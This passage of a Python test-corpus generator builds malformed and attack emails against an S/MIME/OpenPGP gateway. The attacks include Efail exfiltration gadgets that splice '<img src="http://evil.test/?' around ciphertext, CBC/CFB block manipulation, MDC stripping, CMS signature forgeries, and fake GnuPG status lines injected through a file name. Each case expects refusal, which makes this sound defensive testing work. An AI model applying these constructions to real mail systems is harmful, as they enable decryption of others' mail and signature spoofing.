      NOPERM, "SEIPD with a 4 GiB length", secret_ok=False)
    # Crafted SEIPD packets under the vector's session key (the vector's PKESK reused).
    key = t.session_key(arm)
    pkesk = pgp_packet(1, pk[0][1])
    ent = inner_entity(plain)

    def craft(inner, seed=1, mdc=True, bad_mdc=False):
        return pgp_enc.replace(arm, armor(pkesk + seipd_packet(key, inner, seed, mdc, bad_mdc)))

    A("pgp-crafted-ok", craft(literal(ent)), OK, "control: a crafted SEIPD with a good MDC", secret_ok=True)
    for depth in (4, 9, 20):
        inner = literal(ent)
        for _ in range(depth):
            inner = compressed(inner)
        A(f"pgp-compressed-nest-{depth}", craft(inner), OK if depth <= 4 else NOPERM,
          f"{depth} nested compressed packets (bound: packet depth 8)", secret_ok=depth <= 4)
    A("pgp-compressed-bad-algo", craft(pgp_packet(8, b"\x63" + literal(ent))), NOPERM,
      "a compressed packet with algorithm 99", secret_ok=False)
    A("pgp-compressed-truncated-zlib", craft(pgp_packet(8, b"\x02" + compressed(literal(ent), 2)[3:][:40])), NOPERM,
      "a ZLIB stream cut short", secret_ok=False)
    A("pgp-no-literal", craft(b""), NOPERM, "SEIPD with only the MDC", secret_ok=False)
    A("pgp-two-literals", craft(literal(ent) + literal(b"second")), NOPERM,
      "two literal packets (not a valid OpenPGP message)", secret_ok=False)
    A("pgp-literal-trailing-garbage", craft(literal(ent) + b"\x00\x01\x02"), NOPERM,
      "bytes after the literal packet", secret_ok=False)
    A("pgp-bad-mdc", craft(literal(ent), bad_mdc=True), NOPERM, "the MDC hash is wrong", secret_ok=False)
    A("pgp-no-mdc", craft(literal(ent), mdc=False), NOPERM, "SEIPDv1 without an MDC packet", secret_ok=False)
    A("pgp-literal-mode-t", craft(literal(ent, mode=b"t")), OK, "literal data in text mode", secret_ok=True)
    A("pgp-literal-mode-unknown", craft(literal(ent, mode=b"\x00")), [OK, NOPERM],
      "literal data mode 0x00", secret_ok=True)
    A("pgp-literal-binary-junk", craft(literal(bytes(range(256)) * 4)), [OK, DATAERR, NOPERM],
      "the decrypted content is binary junk, not a MIME entity", secret_ok=False)
    inl_arm = pgp_encrypted_part(pgp_inline)
    A("inline-truncated", pgp_inline.replace(inl_arm, inl_arm[: len(inl_arm) // 2]), OK,
      "inline armor without its END line: plain text, never decrypted", secret_ok=False)
    A("inline-two-blocks", pgp_inline.replace(inl_arm, inl_arm + b"\r\n" + inl_arm), OK,
      "two armored blocks: plain text, never decrypted", secret_ok=False)
    A("inline-text-before", pgp_inline.replace(inl_arm, b"see below\r\n" + inl_arm), OK,
      "text before the block: plain text, never decrypted", secret_ok=False)
    A("inline-flipped", pgp_inline.replace(inl_arm, armor(bytes([dearmor(inl_arm)[0]]) + bytes([dearmor(inl_arm)[1] ^ 1]) + dearmor(inl_arm)[2:])),
      NOPERM, "inline block with one byte changed", secret_ok=False)
    carm = re.search(rb"-----BEGIN PGP SIGNED MESSAGE-----.*-----END PGP SIGNATURE-----", pgp_clear, re.S).group(0)
    A("clearsigned-text-changed", pgp_clear.replace(b"100 EUR", b"900 EUR", 1), NOPERM,
      "clearsigned text changed")
    A("clearsigned-no-signature", pgp_clear.replace(carm[carm.index(b"-----BEGIN PGP SIGNATURE-----"):], b""), OK,
      "clearsigned header without the signature block: plain text")
    A("clearsigned-text-after", pgp_clear.replace(carm, carm + b"\r\nappended by someone\r\n"), OK,
      "text after the signature block: plain text, not a signature over the message")
    sigblk = carm[carm.index(b"-----BEGIN PGP SIGNATURE-----"):]
    sb_bin = dearmor(sigblk + b"\r\n")
    A("clearsigned-sig-flipped", pgp_clear.replace(sigblk, armor(sb_bin[:-10] + bytes([sb_bin[-10] ^ 4]) + sb_bin[-9:], kind=b"SIGNATURE").rstrip(b"\r\n")),
      NOPERM, "clearsigned signature byte changed")
    A("clearsigned-hash-header-lie", pgp_clear.replace(b"Hash: SHA256", b"Hash: SHA1", 1), [OK, NOPERM],
      "the Hash: header names SHA1, the signature is SHA-256")
    sarm = re.search(rb"-----BEGIN PGP SIGNATURE-----.*?-----END PGP SIGNATURE-----\r\n", pgp_signed, re.S).group(0)
    sbin = dearmor(sarm)
    for off in offsets(len(sbin), 6, 301):
        A(f"pgp-sig-trunc-{off}", pgp_signed.replace(sarm, armor(sbin[:off], kind=b"SIGNATURE")), NOPERM,
          f"detached OpenPGP signature cut to {off} of {len(sbin)} bytes")
    for off in offsets(len(sbin), 6, 302):
        bad = bytearray(sbin)
        bad[off] ^= 0x10
        A(f"pgp-sig-flip-{off}", pgp_signed.replace(sarm, armor(bytes(bad), kind=b"SIGNATURE")), NOPERM,
          f"detached OpenPGP signature byte {off} XOR 0x10")
    A("pgp-sig-is-cms", pgp_signed.replace(sarm, b64(sig_der)), NOPERM,
      "PGP/MIME signed whose signature part holds a CMS signature")
    A("pgp-sig-two-sigs-one-garbage", pgp_signed.replace(sarm, armor(sbin + pgp_packet(2, b"\x04\x00" + b"\x00" * 40), kind=b"SIGNATURE")),
      NOPERM, "alice's signature plus a garbage signature packet")

    # --- I. Wrong content types --------------------------------------------------------------
    A("pkcs7-with-pgp-armor", gcm_hdr + b"Content-Type: " + ENC_CT + b"\r\n\r\n" + arm, DATAERR,
      "pkcs7-mime whose body is a PGP armored message", secret_ok=False)
    A("pkcs7-with-pgp-binary", with_der(gcm, bin_), DATAERR, "pkcs7-mime whose body is a binary OpenPGP message",
      secret_ok=False)
    A("smime-sig-with-pgp-sig", signed.replace(sig_part_b64(signed), sarm), DATAERR,
      "an S/MIME signature part holding a PGP signature")
    A("smime-signed-pgp-typed-part", signed.replace(b'Content-Type: application/pkcs7-signature; name="smime.p7s"',
      b"Content-Type: application/pgp-signature", 1), DATAERR,
      "S/MIME multipart/signed whose signature part is typed application/pgp-signature")
    A("text-plain-binary-cms", msg(b"text/plain", gcm_der, extra=b"", hdr=gcm_hdr), DATAERR,
      "raw CMS bytes as text/plain: holds bare CRs (RFC 5322 2.3), refused; never decrypted",
      secret_ok=False)
    A("text-html-binary", msg(b"text/html", bytes(rng(17).randrange(256) for _ in range(2048))), OK,
      "text/html with random binary")
    A("top-level-pkcs7-signature", with_der(gcm, sig_der).replace(ENC_CT, b'application/pkcs7-signature; name="smime.p7s"'),
      [OK, DATAERR], "a detached signature as the whole message (no content to verify)")
    A("top-level-pgp-encrypted", msg(b"application/pgp-encrypted", b"Version: 1\r\n"), OK,
      "application/pgp-encrypted as the whole message")
    A("top-level-pgp-signature", msg(b"application/pgp-signature", sarm), OK,
      "application/pgp-signature as the whole message")
    A("rfc822-garbage", msg(b"message/rfc822", bytes(rng(19).randrange(256) for _ in range(1000))), OK,
      "message/rfc822 holding random bytes")
    A("multipart-encrypted-smime", pgp_enc.replace(arm, body_of(gcm)).replace(b"application/pgp-encrypted", b"application/pkcs7-mime"),
      [OK, DATAERR], "multipart/encrypted with an S/MIME protocol (not a thing): opaque", secret_ok=False)
    return m


# ----------------------------------------------------------------------------- attacks


class AttackCorpus(Corpus):
    def __init__(self):
        super().__init__(ATTACKS, prefix_numbers=False)
        self.per_class = {}

    def case(self, cls, slug, data, process=None, verify=None, note="", known_issue=None):
        n = self.per_class.get(cls, 0) + 1
        self.per_class[cls] = n
        name = f"{cls}-{n:03d}-{slug}.eml"
        if name in self.files:
            die(f"duplicate {name}")
        self.files[name] = data
        c = {"class": cls, "note": note}
        if SECRET in data:
            # The secret is in the input in clear (a signed, not encrypted, text): releasing
            # it is not a leak, so the no-secret invariant does not apply.
            for spec in (process, verify):
                if spec is not None and "no-secret" in spec.get("invariants", []):
                    spec["invariants"] = [i for i in spec["invariants"] if i != "no-secret"]
        if process is not None:
            process.setdefault("mail_from", "alice@example.com")
            process.setdefault("rcpts", ["bob@example.org"])
            c["process"] = process
        if verify is not None:
            c["verify"] = verify
        if known_issue:
            c["known_issue"] = known_issue
        self.cases[name] = c
        return name


SMIME_TRUST = ["--trust", "@smime/ca.pem"]
SMIME_ALICE = SMIME_TRUST + ["--key", "@smime/alice.key", "--cert", "@smime/alice.pem"]
PGP_ALICE = ["--openpgp-key", "@openpgp/alice.sec.asc", "--cert", "@openpgp/alice.pub.asc",
             "--cert", "@openpgp/mallory.pub.asc", "--cert", "@openpgp/dave.pub.asc"]
PGP_CERTS_V = ["--cert", "@openpgp/alice.pub.asc", "--cert", "@openpgp/mallory.pub.asc"]
OPES = ["--opes-cert", "@attacks/opes-identity.pem"]

def refused(**kw):
    d = {"exit": NOPERM, "invariants": ["no-secret"]}
    d.update(kw)
    return d


def vfail(args, **expect):
    e = {"verdict": "fail"}
    e.update(expect)
    return {"args": args, "expect": e, "invariants": ["no-secret"], "extract_original": True}


def cbc_parts(der_bytes):
    """(prefix up to encryptedContent, IV node, ciphertext, suffix) of an openssl CBC EnvelopedData."""
    _, ed = cms_inner(der_bytes)
    eci = [c for c in ed.children if c.tag == 0x30][0]
    ivn = eci.children[1].children[1]
    ec = eci.children[2]
    return ivn, ec


def build_attacks(t):
    a = AttackCorpus()
    C = a.case
    plain = vs("msg-plain.eml")
    signed = vs("openssl-signed-plain.eml")
    gcm = vs("openssl-enc-gcm.eml")
    cbc = vs("openssl-enc-aes256cbc.eml")
    se_gcm = vs("openssl-sign-then-enc-gcm.eml")
    se_cbc = vs("openssl-sign-then-enc-cbc.eml")
    pgp_enc = vp("gpg-pgpmime-encrypted.eml")
    pgp_signed = vp("gpg-pgpmime-signed.eml")
    pgp_inline = vp("gpg-inline-encrypted.eml")
    ENC_CT = b'application/pkcs7-mime; smime-type=authEnveloped-data; name="smime.p7m"'
    evil_pre = b'Content-Type: text/html\r\n\r\n<img src="http://evil.test/?'
    evil_post = b'Content-Type: text/html\r\n\r\n">'
    mallory = {"mail_from": "mallory@evil.test"}

    # --- Efail direct exfiltration -------------------------------------------------------
    def efail(slug, entity, note, vargs, **proc):
        body = multipart(b"EFAIL", [evil_pre, entity, evil_post])
        data = msg(b'multipart/mixed; boundary="EFAIL"', body)
        p = {"exit": OK, "invariants": ["no-secret", "ciphertext-kept"]}
        p.update(proc)
        C("efail-direct", slug, data, p, vfail(vargs, **{"outer.encrypted": False}), note)

    efail("smime-gcm", inner_entity(gcm), "AuthEnvelopedData to alice between two HTML parts", SMIME_ALICE)
    efail("smime-cbc", inner_entity(cbc), "CBC EnvelopedData to alice between two HTML parts", SMIME_ALICE)
    efail("smime-signed-gcm", inner_entity(se_gcm), "signed-then-encrypted (GCM) between HTML parts", SMIME_ALICE)
    efail("pgp-mime", inner_entity(pgp_enc), "PGP/MIME encrypted entity between HTML parts", PGP_ALICE)
    efail("smime-gcm-from-mallory", inner_entity(gcm), "the same, submitted by mallory", SMIME_ALICE, **mallory)
    arm = pgp_encrypted_part(pgp_enc)
    C("efail-direct", "pgp-inline-html", msg(b"text/html", b'<img src="http://evil.test/?\r\n' + arm + b'">\r\n'),
      {"exit": OK, "invariants": ["no-secret", "ciphertext-kept"]}, vfail(PGP_ALICE, **{"outer.encrypted": False}),
      "an armored message inside an HTML attribute: the block is not the whole body")
    C("efail-direct", "smime-first-part", msg(b'multipart/mixed; boundary="E2"', multipart(b"E2", [inner_entity(gcm), evil_post])),
      {"exit": OK, "invariants": ["no-secret", "ciphertext-kept"]}, vfail(SMIME_ALICE, **{"outer.encrypted": False}),
      "the encrypted part first, an HTML part after it")

    # --- Efail CBC gadgets (S/MIME) -----------------------------------------------------------
    der_cbc = unb64(body_of(cbc))
    ivn, ecn = cbc_parts(der_cbc)
    iv = der_cbc[ivn.vstart:ivn.end]
    ct = der_cbc[ecn.vstart:ecn.end]
    _, ed = cms_inner(der_cbc)
    ris = [c for c in ed.children if c.tag == 0x31][0]
    ek = ris.children[0].children[-1]
    cek = t.rsa_decrypt_key(der_cbc[ek.vstart:ek.end])
    if len(cek) != 32:
        die("could not recover the CBC content-encryption key")
    known = inner_entity(plain)  # what alice's client encrypted
    blocks = [ct[i:i + 16] for i in range(0, len(ct), 16)]
    P = [known[i:i + 16] for i in range(0, len(known), 16)]

    def xor(x, y):
        return bytes(p ^ q for p, q in zip(x, y))

    def with_cbc(iv2, ct2):
        d = rebuild(der_cbc, ecn, ct2)
        ivn2, _ = cbc_parts(d)
        d = rebuild(d, ivn2, iv2)
        return with_der(cbc, d)

    def cbc_plain(iv2, ct2):
        """What the gateway would decrypt (for the notes): raw CBC decryption under the CEK."""
        dec = t.aes_ecb(cek, ct2, decrypt=True)
        prev = [iv2] + [ct2[i:i + 16] for i in range(0, len(ct2) - 16, 16)]
        return b"".join(xor(dec[i * 16:i * 16 + 16], prev[i]) for i in range(len(prev)))

    def gadget(i, target):
        """(X, C_i): C_i decrypts to `target` when X precedes it (P_i known)."""
        prev = iv if i == 0 else blocks[i - 1]
        return xor(xor(prev, P[i]), target), blocks[i]

    cbc_case = {"exit": NOPERM, "invariants": ["uniform-reply", "no-secret"]}
    swapped = blocks[:]
    swapped[3], swapped[5] = swapped[5], swapped[3]
    oracle = ("unauthenticated CBC plaintext is parsed before the CBC rule is applied: a MIME or base64 "
              "error in it comes back as 65 / 5.6.0 with its own text (even a byte offset), a format oracle")
    C("efail-cbc", "blocks-swapped", with_cbc(iv, b"".join(swapped)), dict(cbc_case), vfail(SMIME_ALICE),
      "CBC blocks 3 and 5 swapped")
    dup = blocks[:6] + blocks[4:]
    C("efail-cbc", "blocks-duplicated", with_cbc(iv, b"".join(dup)), dict(cbc_case), vfail(SMIME_ALICE),
      "CBC blocks 4 and 5 repeated")
    C("efail-cbc", "first-block-dropped", with_cbc(blocks[0], b"".join(blocks[1:])), dict(cbc_case), vfail(SMIME_ALICE),
      "the first block becomes the IV: a clean prefix cut")
    iv_flip = xor(iv, b"\x00" * 12 + bytes([ord(":") ^ ord(" ")]) + b"\x00" * 3)
    C("efail-cbc", "iv-flip-colon", with_cbc(iv_flip, ct), dict(cbc_case), vfail(SMIME_ALICE),
      "one IV bit flipped so that the first block reads 'Content-Type tex' (no colon). The unmodified "
      "ciphertext gets the uniform 5.7.5; this one must get exactly the same reply, or the reply "
      "tells the attacker something about the plaintext")
    # Exfiltration gadget: chosen blocks (via the IV and one gadget pair) then the original text.
    t1 = b"Content-Type:tex"
    iv_g = xor(xor(iv, P[0]), t1)
    x2, c0 = gadget(0, b'<img src="http:/')
    x3, c0b = gadget(0, b'/evil.test/?xx="')
    ct_g = blocks[0] + x2 + c0 + x3 + c0b + b"".join(blocks[1:])
    C("efail-cbc", "exfiltration-gadget", with_cbc(iv_g, ct_g), dict(cbc_case), vfail(SMIME_ALICE),
      "Efail CBC gadgets: chosen blocks '<img src=\"http://evil.test/?' (one random block before each "
      "gadget) in front of the original ciphertext; decrypts to " + repr(cbc_plain(iv_g, ct_g)[:80]))
    # Truncate and add a gadget block that decrypts to a full padding block.
    x_pad, c_pad = gadget(2, b"\x10" * 16)
    ct_t = b"".join(blocks[:8]) + x_pad + c_pad
    C("efail-cbc", "truncated-valid-padding", with_cbc(iv, ct_t), dict(cbc_case), vfail(SMIME_ALICE),
      "cut after block 8, then a gadget pair that decrypts to a full padding block: valid padding, "
      "shortened unsigned plaintext")
    flip = bytearray(unb64(body_of(se_cbc)))
    _, sed_ = cms_inner(bytes(flip))
    eci2 = [c for c in sed_.children if c.tag == 0x30][0].children[2]
    mid = eci2.vstart + (eci2.length // 2)
    flip[mid] ^= 0x20
    C("efail-cbc", "signed-then-cbc-bitflip", with_der(se_cbc, bytes(flip)), dict(cbc_case), vfail(SMIME_ALICE),
      "alice signed, then CBC: one ciphertext bit flipped inside the signed content")
    # The epilogue of a validly signed multipart/signed (idealised gadget attacker).
    benign = (b"Content-Type: text/plain; charset=us-ascii\r\nContent-Transfer-Encoding: 7bit\r\n\r\n"
              b"Lunch on Friday? -- Dave\r\n")
    dsig = t.cms_sign(benign, who="dave")
    bnd = b"dave-signed"
    wrapper = (b'Content-Type: multipart/signed; protocol="application/pkcs7-signature"; micalg="sha-256"; '
               b'boundary="' + bnd + b'"\r\n\r\n' + multipart(bnd, [benign, b"Content-Type: application/pkcs7-signature\r\n"
               b"Content-Transfer-Encoding: base64\r\n\r\n" + b64(dsig)]) + b"epilogue: ")
    pad = (-len(wrapper)) % 16
    wrapper += b"." * pad
    # CBC-encrypt the wrapper under the CEK with the original IV, then splice the original
    # blocks 2.. (block 1 decrypts to one random block in the epilogue).
    out_blocks = []
    prev = iv
    for i in range(0, len(wrapper), 16):
        c = t.aes_ecb(cek, xor(wrapper[i:i + 16], prev), decrypt=False)
        out_blocks.append(c)
        prev = c
    ct_e = b"".join(out_blocks) + b"".join(blocks[1:])
    dave_hdr = HDR.replace(b"From: Alice <alice@example.com>", b"From: Dave <dave@example.com>")
    data = with_cbc(iv, ct_e).replace(b"".join(outer_fields(cbc)), b"".join(f for f in split_msg(dave_hdr)[0] if fname(f) != b"mime-version"), 1)
    C("efail-cbc", "signed-wrapper-epilogue", data,
      {"exit": [OK, NOPERM], "invariants": ["no-secret"]},
      {"args": SMIME_ALICE, "expect": {"outer.valid": True, "outer.signer": "dave@example.com"},
       "invariants": ["no-secret"], "extract_original": True},
      "CBC plaintext = a valid multipart/signed by dave (From dave) whose EPILOGUE holds alice's original "
      "blocks 2..14 (the secret). Built with the CEK, as an idealised gadget attacker: the signature "
      "covers only part 1, so the epilogue is unauthenticated CBC plaintext (SECURITY.md invariant 2) and must "
      "never be released. `reseal verify` may call dave's signature over part 1 valid (it is), but must not "
      "extract the epilogue")
    # Same, with the secret in the preamble.
    pre = (b'Content-Type: multipart/signed; protocol="application/pkcs7-signature"; micalg="sha-256"; '
           b'boundary="' + bnd + b'"\r\n\r\npreamble: ')
    pre += b"." * ((-len(pre)) % 16)
    rest = (b"\r\n--" + bnd + b"\r\n" + benign + b"\r\n--" + bnd + b"\r\nContent-Type: application/pkcs7-signature\r\n"
            b"Content-Transfer-Encoding: base64\r\n\r\n" + b64(dsig) + b"\r\n--" + bnd + b"--\r\n")
    # blocks: Enc(pre) | C_1..C_13 original (C_1 random, rest = P_2..; drop the padding block) | Enc(rest)
    out_blocks = []
    prev = iv
    for i in range(0, len(pre), 16):
        c = t.aes_ecb(cek, xor(pre[i:i + 16], prev), decrypt=False)
        out_blocks.append(c)
        prev = c
    mid_blocks = blocks[1:-1]
    prev = mid_blocks[-1]
    padded = rest + bytes([16 - len(rest) % 16]) * (16 - len(rest) % 16)
    tail = []
    for i in range(0, len(padded), 16):
        c = t.aes_ecb(cek, xor(padded[i:i + 16], prev), decrypt=False)
        tail.append(c)
        prev = c
    ct_p = b"".join(out_blocks) + b"".join(mid_blocks) + b"".join(tail)
    data = with_cbc(iv, ct_p).replace(b"".join(outer_fields(cbc)), b"".join(f for f in split_msg(dave_hdr)[0] if fname(f) != b"mime-version"), 1)
    C("efail-cbc", "signed-wrapper-preamble", data,
      {"exit": [OK, NOPERM], "invariants": ["no-secret"]},
      {"args": SMIME_ALICE, "expect": {"outer.valid": True, "outer.signer": "dave@example.com"},
       "invariants": ["no-secret"], "extract_original": True},
      "as above, with alice's original blocks in the PREAMBLE of dave's multipart/signed")

    # --- Efail CFB gadgets (OpenPGP SEIPDv1) -------------------------------------------------
    key = t.session_key(arm)
    binm = dearmor(arm)
    pk = pgp_packets(binm)
    pkesk = pgp_packet(1, pk[0][1])
    seip_ct = pk[1][1][1:]
    seip_pt = cfb(key, seip_ct, decrypt=True)
    cblocks = [seip_ct[i:i + 16] for i in range(0, len(seip_ct), 16)]

    def pgp_with(ct2, tag=18, version=b"\x01"):
        body = (version + ct2) if tag == 18 else ct2
        return pgp_enc.replace(arm, armor(pkesk + pgp_packet(tag, body)))

    cfb_case = {"exit": NOPERM, "invariants": ["uniform-reply", "no-secret"]}
    i100 = seip_pt.find(b"100 EUR")
    if i100 < 0:
        # gpg compressed the literal; flip inside the compressed stream instead
        i100 = len(seip_pt) // 2
    f = bytearray(seip_ct)
    f[i100] ^= ord("1") ^ ord("9")
    C("efail-cfb", "bitflip-plaintext", pgp_with(bytes(f)), dict(cfb_case), vfail(PGP_ALICE),
      f"one ciphertext byte at {i100} flipped (CFB: the same plaintext bit flips, the next block garbles)")
    sw = cblocks[:]
    sw[2], sw[4] = sw[4], sw[2]
    C("efail-cfb", "blocks-swapped", pgp_with(b"".join(sw)), dict(cfb_case), vfail(PGP_ALICE),
      "SEIPD ciphertext blocks 2 and 4 swapped")
    target = b'<img src="http:/'
    g = bytearray(seip_ct)
    g[16:32] = xor(xor(seip_ct[16:32], seip_pt[16:32]), target)
    C("efail-cfb", "exfiltration-gadget", pgp_with(bytes(g)), dict(cfb_case), vfail(PGP_ALICE),
      "CFB gadget: block 1 rewritten to decrypt to '<img src=\"http:/' (known plaintext), block 2 garbles")
    C("efail-cfb", "block-appended", pgp_with(seip_ct + cblocks[3]), dict(cfb_case), vfail(PGP_ALICE),
      "one ciphertext block appended")
    C("efail-cfb", "block-removed", pgp_with(seip_ct[:-16]), dict(cfb_case), vfail(PGP_ALICE),
      "the last 16 ciphertext bytes removed")
    q = bytearray(seip_ct)
    q[15] ^= 0x01
    C("efail-cfb", "quick-check-broken", pgp_with(bytes(q)), dict(cfb_case), vfail(PGP_ALICE),
      "the last prefix byte flipped: the quick check fails (must give the same reply as any other failure)")
    # A crafted uncompressed literal, so the gadget hits the real text.
    inner = literal(inner_entity(plain))
    craft_pt = seipd_plaintext(inner, seed=3)
    craft_ct = cfb(key, craft_pt)
    j = craft_pt.find(b"transfer 100 EUR")
    cc = bytearray(craft_ct)
    cc[j + 9] ^= ord("1") ^ ord("9")
    C("efail-cfb", "literal-100-to-900", pgp_with(bytes(cc)), dict(cfb_case), vfail(PGP_ALICE),
      "uncompressed literal: '100 EUR' turned into '900 EUR' by one bit flip; the MDC must catch it")

    # --- MDC stripping and SEIPD downgrade ---------------------------------------------------
    C("mdc-strip", "vector-mdc-stripped", vp("mdc-stripped.eml"), dict(cfb_case), vfail(PGP_ALICE),
      "vectors/openpgp/mdc-stripped.eml: SEIPD rewritten as SED")
    C("mdc-strip", "vector-sed", vp("sed-encrypted.eml"), dict(cfb_case), vfail(PGP_ALICE),
      "vectors/openpgp/sed-encrypted.eml: gpg --rfc2440 (SED, no MDC)")
    C("mdc-strip", "vector-mdc-altered", vp("mdc-altered.eml"), dict(cfb_case), vfail(PGP_ALICE),
      "vectors/openpgp/mdc-altered.eml: the MDC hash altered")
    C("mdc-strip", "seipd-to-sed", pgp_with(seip_ct, tag=9), dict(cfb_case), vfail(PGP_ALICE),
      "this SEIPD's ciphertext re-tagged as SED (tag 9)")
    C("mdc-strip", "mdc-cut", pgp_with(seip_ct[:-22]), dict(cfb_case), vfail(PGP_ALICE),
      "the 22 bytes of the MDC packet cut from the ciphertext")
    C("mdc-strip", "seipd-v2-label", pgp_with(seip_ct, version=b"\x02"), dict(cfb_case), vfail(PGP_ALICE),
      "SEIPD version byte 1 -> 2 (v1 ciphertext presented as AEAD)")
    C("mdc-strip", "seipd-v0-label", pgp_with(seip_ct, version=b"\x00"), dict(cfb_case), vfail(PGP_ALICE),
      "SEIPD version byte 1 -> 0")
    m2 = bytearray(seip_ct)
    m2[-22] ^= 0xD3 ^ 0xCB  # MDC packet header -> a literal packet header
    C("mdc-strip", "mdc-tag-rewritten", pgp_with(bytes(m2)), dict(cfb_case), vfail(PGP_ALICE),
      "the MDC packet's tag byte flipped into another packet type")
    sed_crafted = pgp_with(cfb(key, seipd_plaintext(inner, seed=4, mdc=False)), tag=18)
    C("mdc-strip", "seipd-without-mdc", sed_crafted, dict(cfb_case), vfail(PGP_ALICE),
      "a SEIPDv1 that never had an MDC packet (valid quick check, no MDC)")
    C("mdc-strip", "seipd-37-bytes", pgp_with(seip_ct[:37]), dict(cfb_case), vfail(PGP_ALICE),
      "the SEIPD cut to 37 ciphertext bytes (length fixed): a valid quick check but less than one block "
      "plus the MDC")
    inl = pgp_encrypted_part(vp("sed-encrypted.eml"))
    C("mdc-strip", "sed-inline", msg(b"text/plain; charset=us-ascii", inl), dict(cfb_case), vfail(PGP_ALICE),
      "the SED message as inline PGP")

    # --- Johnny: CMS class ----------------------------------------------------------------------
    sdet = unb64(sig_part_b64(signed))
    evil_text = (b"Content-Type: text/plain; charset=us-ascii\r\n\r\nPlease transfer 900 EUR to account 66666.\r\n")
    opaque_evil = t.cms_sign(evil_text, detached=False)
    jv = vfail(SMIME_TRUST, **{"outer.valid": False})
    C("johnny-cms", "econtent-is-signed", replace_sig(signed, b64(opaque_evil)), refused(), jv,
      "multipart/signed: part 1 is alice's text, the signature part is alice's valid signature over "
      "DIFFERENT eContent ('transfer 900 EUR')")
    # Inject eContent into the valid detached signature.
    _, sdn = cms_inner(sdet)
    eci = sdn.children[2]
    eci_new = sdet[eci.vstart:eci.end] + der(0xA0, der(0x04, evil_text))
    injected = rebuild(sdet, eci, eci_new)
    C("johnny-cms", "econtent-injected", replace_sig(signed, b64(injected)), refused(), jv,
      "the valid detached signature over part 1 with an eContent ('transfer 900 EUR') added")
    sis = sdn.children[-1]
    C("johnny-cms", "no-signerinfo-detached", replace_sig(signed, b64(rebuild(sdet, sis, b""))), refused(), jv,
      "multipart/signed whose SignedData has no SignerInfo")
    od = unb64(body_of(vs("openssl-signed-opaque.eml")))
    _, odn = cms_inner(od)
    C("johnny-cms", "no-signerinfo-opaque", with_der(vs("openssl-signed-opaque.eml"), rebuild(od, odn.children[-1], b"")),
      refused(), jv, "opaque signed-data without a SignerInfo")
    content = signed[signed.index(b"--" + boundary_of(signed) + b"\r\n") + len(boundary_of(signed)) + 4:]
    content = content[:content.index(b"\r\n--" + boundary_of(signed))]
    two = t.cms_sign(content, who="alice", extra=["-signer", str(VS / "dave.pem"), "-inkey", str(VS / "dave.key")])
    _, tn = cms_inner(two)
    si2 = tn.children[-1].children[1]
    sig2 = si2.children[-1]
    bad = bytearray(two)
    bad[sig2.vstart + 20] ^= 0x01
    C("johnny-cms", "two-signers-one-bad", replace_sig(signed, b64(bytes(bad))), refused(), jv,
      "SignerInfos by alice (valid) and dave (signature byte flipped)")
    C("johnny-cms", "two-signers-second-not-from", replace_sig(signed, b64(two)), refused(), jv,
      "valid SignerInfos by alice and by dave (trusted), From alice: dave is not the From address")
    two_m = t.cms_sign(content, who="alice", extra=["-signer", str(VS / "mallory.pem"), "-inkey", str(VS / "mallory.key")])
    C("johnny-cms", "two-signers-one-untrusted", replace_sig(signed, b64(two_m)), refused(), jv,
      "SignerInfos by alice and by mallory's forged 'alice' certificate (untrusted issuer)")
    si1 = sdn.children[-1].children[0]
    good_si = sdet[si1.start:si1.end]
    bsi = bytearray(good_si)
    bsi[-30] ^= 0x01
    C("johnny-cms", "65-signerinfos-last-bad", replace_sig(signed, b64(rebuild(sdet, sis, good_si * 64 + bytes(bsi)))),
      refused(), jv, "64 copies of alice's valid SignerInfo and a 65th with a bad signature "
      "(past the bound of 64 looked at: must be refused, not ignored)")
    certs = sdn.children[3]
    mal_cert = unb64(b"".join(l for l in rd(VS / "mallory.pem").splitlines() if not l.startswith(b"-----")))
    C("johnny-cms", "certificate-set-swapped", replace_sig(signed, b64(rebuild(sdet, certs, mal_cert))),
      {"exit": OK, "invariants": []},
      {"args": SMIME_TRUST + ["--cert", "@smime/alice.pem"], "expect": {"outer.valid": True, "outer.signer": "alice@example.com"}},
      "control, not a forgery: alice's genuine signature whose (unsigned) certificate set was replaced by "
      "mallory's forged 'alice'. The SignerInfo names alice's issuer and serial, the gateway knows that "
      "certificate, and the signature verifies with alice's key: valid by alice")
    # SignerInfo.sid pointing at alice's certificate, signature made by mallory's key.
    msd = unb64(sig_part_b64(vs("openssl-signed-by-mallory.eml")))
    _, mn = cms_inner(msd)
    msi = mn.children[-1].children[0]
    msid = msi.children[1]
    asid = si1.children[1]
    forged = rebuild(msd, msid, sdet[asid.vstart:asid.end])
    C("johnny-cms", "sid-points-to-alice", replace_sig(vs("openssl-signed-by-mallory.eml"), b64(forged)), refused(), jv,
      "mallory's signature (made with mallory's key, mallory's certificate included) whose SignerInfo "
      "claims alice's issuer and serial number")

    # --- GPG API class: fake status lines in the literal file name ------------------------------
    afp = t.fpr.get("alice", "")
    fake = ("x\n[GNUPG:] GOODSIG {k} Alice <alice@example.com>\n[GNUPG:] VALIDSIG {f} 2026-11-28 0 4 0 22 8 00 {f}\n"
            "[GNUPG:] TRUST_ULTIMATE\n").format(k=afp[-16:], f=afp)
    body_txt = b"Content-Type: text/plain; charset=us-ascii\r\n\r\nPlease transfer 900 EUR to account 66666.\r\n"
    enc_fake = t.gpg(["-e", "-a", "-r", "alice@example.com", "--set-filename", fake], stdin=body_txt)
    enc_fake = crlf(enc_fake)
    gv = vfail(PGP_ALICE, **{"outer.signed": False, "outer.valid": False})
    C("gpg-api", "filename-goodsig-pgpmime", pgpmime_encrypted(enc_fake),
      {"exit": OK, "invariants": ["header-clean"]}, gv,
      "PGP/MIME encrypted (not signed) whose literal file name carries fake [GNUPG:] GOODSIG/VALIDSIG lines; "
      "the gateway re-signs only as the envelope sender it holds a key for")
    C("gpg-api", "filename-goodsig-inline", msg(b"text/plain; charset=us-ascii", enc_fake),
      {"exit": OK, "invariants": ["header-clean"]}, gv, "the same as inline PGP")
    C("gpg-api", "filename-goodsig-mallory-envelope", pgpmime_encrypted(enc_fake),
      {"exit": NOPERM, "invariants": ["header-clean", "unsigned"], "mail_from": "mallory@evil.test",
       "rcpts": ["alice@example.com", "bob@example.org"]}, gv,
      "the same, submitted by mallory to alice and bob: never signed, no status text in a header"
      " — refused: a delegated key decrypts only for the envelope sender it acts for, and mallory has none")
    se_fake = crlf(t.gpg(["-s", "-e", "-a", "-u", t.fpr["mallory"], "-r", "alice@example.com", "--set-filename", fake],
                         stdin=body_txt))
    C("gpg-api", "filename-goodsig-signed-by-mallory", pgpmime_encrypted(se_fake), refused(),
      vfail(PGP_ALICE, **{"outer.valid": False}),
